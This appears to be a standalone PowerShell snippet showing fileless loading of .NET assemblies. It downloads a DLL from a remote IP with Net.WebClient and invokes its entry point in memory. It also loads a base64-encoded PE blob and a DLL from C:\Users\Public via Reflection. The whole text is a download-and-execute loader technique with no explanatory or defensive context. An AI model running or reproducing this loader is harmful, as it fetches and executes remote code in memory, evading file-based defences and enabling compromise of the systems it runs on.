$bytes = (New-Object Net.WebClient).DownloadData('http://198.51.100.9/tool.dll')
$asm = [System.Reflection.Assembly]::Load($bytes)
$asm.EntryPoint.Invoke($null, @(, [string[]]@()))

$b64 = 'TVqQAAMAAAAEAAAA//8AALgAAAAAAAAAQAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAgAAAAA4fug4AtAnNIbgBTM0hVGhpcyBwcm9ncmFtIGNhbm5vdA=='
[Reflection.Assembly]::Load([Convert]::FromBase64String($b64)) | Out-Null
[AppDomain]::CurrentDomain.Load([IO.File]::ReadAllBytes('C:\Users\Public\x.dll'))
